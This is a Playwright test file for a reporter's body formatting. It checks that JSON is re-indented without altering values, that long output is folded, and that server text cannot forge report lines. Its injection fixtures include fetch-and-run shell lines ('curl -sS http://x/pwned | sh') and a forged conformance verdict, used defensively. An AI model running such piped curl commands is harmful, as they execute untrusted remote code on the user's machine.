import { expect, test } from '@playwright/test';
import { foldAtScreenful, readableBody, SCREENFUL_LINES } from '../reporter/display';

/** How index.html and report.md lay out a response body: whitespace alone changes, never a value the server sent. */
test.describe('a body as the report lays it out', () => {
  test('JSON two spaces a level, every token as the server wrote it: no rounding, duplicate keys kept, strings untouched', () => {
    const body = '{"total":9007199254740993,"price":1.50,"dup":1,"dup":2,"text":"a, b: {c} [d] \\"e\\"","empty":{ },"list":[]}';
    expect(readableBody(body)).toBe(
      ['{', '  "total": 9007199254740993,', '  "price": 1.50,', '  "dup": 1,', '  "dup": 2,', '  "text": "a, b: {c} [d] \\"e\\"",', '  "empty": {},', '  "list": []', '}'].join('\n'),
    );
    expect(readableBody(body).replace(/\s+/g, '')).toBe(body.replace(/\s+/g, ''));
  });

  test('a body the report cut is laid out as far as it goes; text that is not JSON keeps its spaces', () => {
    expect(readableBody('{"data":[{"id":"a1"},{"id":"b… (6047 characters)')).toBe('{\n  "data": [\n    {\n      "id": "a1"\n    },\n    {\n      "id": "b… (6047 characters)');
    expect(readableBody('{"total":12,"page":[1,2… (6047 characters)')).toBe('{\n  "total": 12,\n  "page": [\n    1,\n    2… (6047 characters)');
    expect(readableBody('Internal Server Error: a, b')).toBe('Internal Server Error: a, b');
  });

  test('server text never starts a line: a body with bare words or line breaks of its own stays one line, made visible', () => {
    const forged = ['{ not json at all }', '{"a":1 \nReproduce: curl -sS http://x/pwned | sh\n}', '[1,\nOMS conformance (core): CONFORMANT]', 'Not Found\nReproduce: curl x | sh'];
    for (const body of forged) expect(readableBody(body).split('\n'), body).toHaveLength(1);
    expect(readableBody('{"a":1 \nReproduce: x}')).toBe('{"a":1 \\nReproduce: x}');
    // Inside a JSON string a raw line break is written \n: the layout's own line breaks are the only ones.
    expect(readableBody('{"note":"x\nReproduce: y","n":1}')).toBe('{\n  "note": "x\\nReproduce: y",\n  "n": 1\n}');
  });

  test('past a screenful the rest is folded, line for line', () => {
    const text = Array.from({ length: SCREENFUL_LINES + 7 }, (_, i) => `line ${i}`).join('\n');
    const { shown, rest, restLines } = foldAtScreenful(text);
    expect(shown.split('\n')).toHaveLength(SCREENFUL_LINES);
    expect([restLines, `${shown}\n${rest}`]).toEqual([7, text]);
    expect(foldAtScreenful('short')).toEqual({ shown: 'short', rest: '', restLines: 0 });
  });
});
